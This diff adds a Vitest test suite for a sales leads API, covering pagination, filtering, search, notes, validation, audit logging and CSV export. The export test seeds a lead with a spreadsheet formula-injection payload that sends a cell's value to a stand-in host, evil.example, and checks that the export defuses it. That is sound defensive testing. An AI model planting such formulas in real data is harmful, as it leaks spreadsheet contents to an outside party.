@@ -1,0 +1,256 @@
+import { eq } from "drizzle-orm";
+import type { FastifyInstance } from "fastify";
+import { describe, expect, it } from "vitest";
+import { auditEvents, contacts, leadNotes, teamMembers } from "../db/schema";
+import { addLeads, addMember, as, startApp } from "../testing/inbox";
+import { BACKENDS } from "../testing/support";
+import { encodeCursor } from "./list-query";
+
+const day = (date: string) => new Date(`${date}T12:00:00Z`);
+
+/** Every id a list answers for this query, walking its pages `limit` at a time. */
+async function allIds(app: FastifyInstance, member: Parameters<typeof as>[1], query: string, limit = 100): Promise<number[]> {
+  const ids: number[] = [];
+  let cursor: string | null = null;
+  do {
+    const response = await as(app, member).get(`/api/team/leads?limit=${limit}${query ? `&${query}` : ""}${cursor ? `&cursor=${cursor}` : ""}`);
+    expect(response.statusCode, response.body).toBe(200);
+    const body = response.json<{ items: { id: number }[]; nextCursor: string | null }>();
+    expect(body.items.length).toBeLessThanOrEqual(limit);
+    ids.push(...body.items.map((item) => item.id));
+    cursor = body.nextCursor;
+  } while (cursor);
+  return ids;
+}
+
+describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
+  it("lists leads newest first in keyset pages, filtered by status, service, assignee and UTC days, searched by name, e-mail and company", async () => {
+    const app = await startApp(backend);
+    const sam = await addMember(app, "sales", "Sam");
+    const owner = await addMember(app, "owner", "Olivia");
+    const statuses = ["new", "contacted", "qualified", "won", "lost", "spam"] as const;
+    const seeded = Array.from({ length: 36 }, (_, index) => ({
+      name: index === 7 ? "Mariam Khan" : `Person ${index}`,
+      email: index === 11 ? "buyer@Shop.Example.NET" : `person${index}@example.org`,
+      company: index === 20 ? "Clinic Group" : index === 21 ? "100% Organic" : index === 22 ? "Under_score Ltd" : null,
+      service: index % 3 === 0 ? "web-development" : index % 3 === 1 ? "mobile-apps" : null,
+      status: statuses[index % 6],
+      assigneeId: index % 4 === 0 ? sam.id : index % 4 === 1 ? owner.id : null,
+      createdAt: day(`2026-01-${String(1 + Math.floor(index / 2)).padStart(2, "0")}`),
+    }));
+    // The edges of a UTC day: its first and last instant, and the next day's first.
+    seeded.push({ ...seeded[0]!, name: "Edge A", createdAt: new Date("2026-02-05T00:00:00.000Z") });
+    seeded.push({ ...seeded[0]!, name: "Edge B", createdAt: new Date("2026-02-05T23:59:59.999Z") });
+    seeded.push({ ...seeded[0]!, name: "Edge C", createdAt: new Date("2026-02-06T00:00:00.000Z") });
+    const ids = await addLeads(app, seeded);
+    const newestFirst = (keep: (lead: (typeof seeded)[number]) => boolean) => ids.filter((_, index) => keep(seeded[index]!)).reverse();
+
+    // Pages of 7 walk the whole list once, newest first; the last page says so.
+    expect(await allIds(app, sam, "", 7)).toEqual([...ids].reverse());
+    const first = (await as(app, sam).get("/api/team/leads")).json();
+    expect(first.nextCursor).toBeNull();
+    expect(first.items[0]).toEqual({
+      id: ids.at(-1),
+      name: "Edge C",
+      email: "person0@example.org",
+      company: null,
+      service: "web-development",
+      budget: null,
+      status: "new",
+      assignee: { id: sam.id, name: "Sam" },
+      createdAt: "2026-02-06T00:00:00.000Z",
+      isNew: true,
+    });
+
+    expect(await allIds(app, sam, "status=won", 2)).toEqual(newestFirst((lead) => lead.status === "won"));
+    expect(await allIds(app, sam, "service=mobile-apps")).toEqual(newestFirst((lead) => lead.service === "mobile-apps"));
+    expect(await allIds(app, sam, "service=none")).toEqual(newestFirst((lead) => lead.service === null));
+    expect(await allIds(app, sam, "assignee=me")).toEqual(newestFirst((lead) => lead.assigneeId === sam.id));
+    expect(await allIds(app, owner, "assignee=me")).toEqual(newestFirst((lead) => lead.assigneeId === owner.id));
+    expect(await allIds(app, sam, `assignee=${owner.id}`)).toEqual(newestFirst((lead) => lead.assigneeId === owner.id));
+    expect(await allIds(app, sam, "assignee=none")).toEqual(newestFirst((lead) => lead.assigneeId === null));
+    expect(await allIds(app, sam, "from=2026-02-05&to=2026-02-05")).toEqual([ids.at(-2), ids.at(-3)]);
+    expect(await allIds(app, sam, "from=2026-02-06")).toEqual([ids.at(-1)]);
+    expect(await allIds(app, sam, "to=2026-01-01")).toEqual([ids[1], ids[0]]);
+    expect(await allIds(app, sam, "status=new&service=web-development&assignee=me")).toEqual(newestFirst((lead) => lead.status === "new" && lead.service === "web-development" && lead.assigneeId === sam.id));
+
+    // Search: any case, a substring of the name, the address or the company; LIKE's own characters are literal.
+    expect(await allIds(app, sam, "q=KHAN")).toEqual([ids[7]]);
+    expect(await allIds(app, sam, "q=shop.example.net")).toEqual([ids[11]]);
+    expect(await allIds(app, sam, "q=%20clinic%20")).toEqual([ids[20]]);
+    expect(await allIds(app, sam, "q=100%25")).toEqual([ids[21]]);
+    expect(await allIds(app, sam, "q=%25")).toEqual([ids[21]]);
+    expect(await allIds(app, sam, "q=r_s")).toEqual([ids[22]]);
+    expect(await allIds(app, sam, "q=xyzzy")).toEqual([]);
+    // One field at a time: the end of a name and the start of its address are not one string.
+    expect(await allIds(app, sam, "q=khan%20person7")).toEqual([]);
+    expect(await allIds(app, sam, "q=edge&status=new")).toEqual([ids.at(-1), ids.at(-2), ids.at(-3)]);
+    // An empty filter is no filter (a form's blank field).
+    expect(await allIds(app, sam, "q=&status=&service=")).toEqual([...ids].reverse());
+  });
+
+  it("says what is new since each member's last look, and POST seen makes it old", async () => {
+    const app = await startApp(backend);
+    const sam = await addMember(app, "sales", "Sam");
+    const olivia = await addMember(app, "owner", "Olivia");
+    await addLeads(app, [{}, {}, {}]);
+    const list = async (member = sam) => (await as(app, member).get("/api/team/leads")).json<{ items: { id: number; isNew: boolean }[]; newCount: number }>();
+    expect((await list()).items.map((item) => item.isNew)).toEqual([true, true, true]);
+    expect((await list()).newCount).toBe(3);
+
+    const seen = await as(app, sam).post("/api/team/leads/seen");
+    expect(seen.statusCode).toBe(204);
+    expect((await list()).items.map((item) => item.isNew)).toEqual([false, false, false]);
+    expect((await list()).newCount).toBe(0);
+
+    const [later] = await addLeads(app, [{ createdAt: new Date(Date.now() + 1000) }]);
+    const after = await list();
+    expect(after.newCount).toBe(1);
+    expect(after.items.filter((item) => item.isNew).map((item) => item.id)).toEqual([later]);
+    // Another member's last look is their own.
+    expect((await list(olivia)).newCount).toBe(4);
+    const [row] = await app.database.db.select({ seen: teamMembers.leadsSeenAt }).from(teamMembers).where(eq(teamMembers.id, olivia.id));
+    expect(row!.seen).toBeNull();
+  });
+
+  it("shows a lead whole with its notes and a reply link, changes its status and assignee, and keeps notes with their author", async () => {
+    const app = await startApp(backend);
+    const { db } = app.database;
+    const sam = await addMember(app, "sales", "Sam");
+    const olivia = await addMember(app, "owner", "Olivia");
+    const recruiter = await addMember(app, "recruiting", "Rita");
+    const gone = await addMember(app, "sales", "Gone");
+    await db.update(teamMembers).set({ removedAt: new Date() }).where(eq(teamMembers.id, gone.id));
+    const [id] = await addLeads(app, [{ name: "Mariam Khan", email: "mariam.khan+web@example.org", company: "Clinic Group", phone: "+971 50 123 4567", budget: "$25k-$75k", message: "We need an appointment app.\nFor Dubai and Munich." }]);
+
+    const detail = await as(app, sam).get(`/api/team/leads/${id}`);
+    expect(detail.statusCode).toBe(200);
+    expect(detail.json()).toMatchObject({
+      lead: { id, name: "Mariam Khan", email: "mariam.khan+web@example.org", company: "Clinic Group", phone: "+971 50 123 4567", budget: "$25k-$75k", status: "new", assignee: null, message: "We need an appointment app.\nFor Dubai and Munich." },
+      notes: [],
+      reply: "mailto:mariam.khan%2Bweb@example.org?subject=Re%3A%20your%20enquiry%20to%20Alphai",
+    });
+    expect(detail.json().lead.consentAt).toMatch(/^\d{4}-\d{2}-\d{2}T/);
+    expect(new URL(detail.json().reply).searchParams.get("subject")).toBe("Re: your enquiry to Alphai");
+
+    const won = await as(app, sam).patch(`/api/team/leads/${id}`, { status: "won", assigneeId: olivia.id });
+    expect(won.statusCode, won.body).toBe(200);
+    expect(won.json().lead).toMatchObject({ id, status: "won", assignee: { id: olivia.id, name: "Olivia" }, message: "We need an appointment app.\nFor Dubai and Munich." });
+    const [stored] = await db.select().from(contacts).where(eq(contacts.id, id!));
+    expect([stored!.status, stored!.assigneeId]).toEqual(["won", olivia.id]);
+
+    // Only an active owner or sales member takes a lead; null is nobody.
+    for (const assigneeId of [recruiter.id, gone.id, 999_999]) {
+      const refused = await as(app, sam).patch(`/api/team/leads/${id}`, { assigneeId });
+      expect(refused.statusCode).toBe(400);
+      expect(Object.keys(refused.json().fields)).toEqual(["assigneeId"]);
+    }
+    expect((await as(app, sam).patch(`/api/team/leads/${id}`, { assigneeId: null })).json().lead.assignee).toBeNull();
+    for (const [payload, field] of [[{}, "form"], [{ status: "closed" }, "status"], [{ status: "won", extra: 1 }, "form"], [{ assigneeId: "1" }, "assigneeId"], [{ assigneeId: 1.5 }, "assigneeId"]] as const) {
+      const refused = await as(app, sam).patch(`/api/team/leads/${id}`, payload);
+      expect(refused.statusCode, JSON.stringify(payload)).toBe(400);
+      expect(Object.keys(refused.json().fields), JSON.stringify(payload)).toEqual([field]);
+    }
+
+    const note = await as(app, sam).post(`/api/team/leads/${id}/notes`, { body: "  Called her: a demo on Monday.\n\nSend the offer after.  " });
+    expect(note.statusCode, note.body).toBe(201);
+    expect(note.json().note).toMatchObject({ body: "Called her: a demo on Monday.\n\nSend the offer after.", author: { id: sam.id, name: "Sam" } });
+    await as(app, olivia).post(`/api/team/leads/${id}/notes`, { body: "Offer sent." });
+    for (const body of ["", "   ", "x".repeat(5001), "bell \u0007", "nul \u0000", 42]) {
+      const refused = await as(app, sam).post(`/api/team/leads/${id}/notes`, { body });
+      expect(refused.statusCode, JSON.stringify(body)).toBe(400);
+      expect(Object.keys(refused.json().fields)).toEqual(["body"]);
+    }
+    expect((await as(app, sam).post(`/api/team/leads/${id}/notes`, { body: "x".repeat(5000) })).statusCode).toBe(201);
+    const notes = (await as(app, olivia).get(`/api/team/leads/${id}`)).json().notes;
+    expect(notes.map((entry: { body: string; author: { name: string } }) => [entry.author.name, entry.body.slice(0, 12)])).toEqual([
+      ["Sam", "Called her: "],
+      ["Olivia", "Offer sent."],
+      ["Sam", "xxxxxxxxxxxx"],
+    ]);
+    expect(await db.select({ author: leadNotes.authorId }).from(leadNotes)).toHaveLength(3);
+
+    // Audited as ids, statuses and note ids: never the text.
+    const events = await db.select().from(auditEvents).orderBy(auditEvents.id);
+    expect(events.filter((event) => event.action === "lead.update").map((event) => event.detail)).toEqual([{ status: "won", assigneeId: olivia.id }, { assigneeId: null }]);
+    expect(events.filter((event) => event.action === "lead.note").map((event) => [event.actorId, event.subjectType, event.subjectId])).toEqual([
+      [sam.id, "lead", String(id)],
+      [olivia.id, "lead", String(id)],
+      [sam.id, "lead", String(id)],
+    ]);
+    expect(JSON.stringify(events)).not.toMatch(/Mariam|mariam|Called|Offer sent|Clinic/);
+  });
+
+  it("answers 400 with the field for a malformed id, cursor, page size or filter, and 404 for a lead that is not there", async () => {
+    const app = await startApp(backend);
+    const sam = await addMember(app, "sales", "Sam");
+    const [id] = await addLeads(app, [{}]);
+    const fieldsOf = async (url: string) => {
+      const response = await as(app, sam).get(url);
+      expect(response.statusCode, url).toBe(400);
+      expect(response.body).not.toMatch(/stack|\.ts:\d+/);
+      return Object.keys(response.json().fields);
+    };
+    for (const bad of ["abc", "0", "-1", "1.5", "99999999999", "1e3"]) expect(await fieldsOf(`/api/team/leads/${bad}`)).toEqual(["id"]);
+    for (const bad of ["garbage!", "aWQ6", encodeURIComponent(Buffer.from("id:abc").toString("base64url")), "x".repeat(300)]) {
+      expect(await fieldsOf(`/api/team/leads?cursor=${bad}`)).toEqual(["cursor"]);
+    }
+    for (const bad of ["0", "101", "abc", "-5"]) expect(await fieldsOf(`/api/team/leads?limit=${bad}`)).toEqual(["limit"]);
+    expect(await fieldsOf("/api/team/leads?status=open")).toEqual(["status"]);
+    expect(await fieldsOf("/api/team/leads?status=won&status=lost")).toEqual(["status"]);
+    expect(await fieldsOf("/api/team/leads?service=Web%20Development")).toEqual(["service"]);
+    expect(await fieldsOf("/api/team/leads?assignee=someone")).toEqual(["assignee"]);
+    expect(await fieldsOf("/api/team/leads?from=2026-02-30")).toEqual(["from"]);
+    expect(await fieldsOf("/api/team/leads?to=31.01.2026")).toEqual(["to"]);
+    expect(await fieldsOf("/api/team/leads?from=2026-02-02&to=2026-02-01")).toEqual(["to"]);
+    expect(await fieldsOf(`/api/team/leads?q=${"x".repeat(101)}`)).toEqual(["q"]);
+    expect(await fieldsOf("/api/team/leads?q=a%0Ab")).toEqual(["q"]);
+    expect(await fieldsOf("/api/team/leads?sort=name")).toEqual(["form"]);
+    expect(await fieldsOf("/api/team/leads/export.csv?status=open")).toEqual(["status"]);
+    expect((await as(app, sam).patch("/api/team/leads/abc", { status: "won" })).statusCode).toBe(400);
+    expect((await as(app, sam).post("/api/team/leads/abc/notes", { body: "x" })).statusCode).toBe(400);
+
+    // A well-formed cursor past the last lead: an empty last page.
+    expect((await as(app, sam).get(`/api/team/leads?cursor=${encodeCursor(id!)}`)).json()).toMatchObject({ items: [], nextCursor: null });
+    for (const response of [
+      await as(app, sam).get("/api/team/leads/999999"),
+      await as(app, sam).patch("/api/team/leads/999999", { status: "won" }),
+      await as(app, sam).post("/api/team/leads/999999/notes", { body: "Hello" }),
+    ]) {
+      expect(response.statusCode).toBe(404);
+      expect(response.json().error).toMatch(/No such lead/);
+    }
+    expect(await app.database.db.select().from(leadNotes)).toEqual([]);
+  });
+
+  it("exports the whole filtered view, not one page, as formula-safe CSV, and audits the export with its row count", async () => {
+    const app = await startApp(backend);
+    const sam = await addMember(app, "sales", "Sam");
+    const leads: Parameters<typeof addLeads>[1][number][] = Array.from({ length: 120 }, (_, index) => ({ status: index % 2 ? "won" : "new", phone: "+49 30 1234567" }));
+    leads.push({ status: "won", phone: "+49 30 1234567", name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', company: "@SUM(1+1)", message: "  -2+3\nsecond line" });
+    await addLeads(app, leads);
+
+    const response = await as(app, sam).get("/api/team/leads/export.csv?status=won&limit=5&cursor=");
+    expect(response.statusCode, response.body).toBe(200);
+    expect(response.headers["content-type"]).toBe("text/csv; charset=utf-8");
+    expect(response.headers["content-disposition"]).toMatch(/^attachment; filename="alphai-leads-\d{4}-\d{2}-\d{2}\.csv"$/);
+    expect(response.headers["cache-control"]).toBe("no-store");
+    const lines = response.body.trimEnd().split("\n");
+    expect(lines[0]).toBe("id,date,status,assignee,name,email,company,phone,service,budget,message");
+    // 61 won leads, one of them with a line break in its message (quoted, on two lines).
+    expect(lines).toHaveLength(1 + 61 + 1);
+    expect(response.body).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
+    expect(response.body).toContain(",'@SUM(1+1),");
+    expect(response.body).toContain(`"'  -2+3\nsecond line"`);
+    expect(response.body).toContain(",'+49 30 1234567,");
+    expect(response.body).not.toMatch(/(^|,)[=@+-]/m);
+
+    const empty = await as(app, sam).get("/api/team/leads/export.csv?status=spam");
+    expect(empty.body).toBe("id,date,status,assignee,name,email,company,phone,service,budget,message\n");
+    const events = await app.database.db.select().from(auditEvents).where(eq(auditEvents.action, "export")).orderBy(auditEvents.id);
+    expect(events.map((event) => [event.actorId, event.detail])).toEqual([
+      [sam.id, { list: "leads", rows: 61 }],
+      [sam.id, { list: "leads", rows: 0 }],
+    ]);
+  });
+});
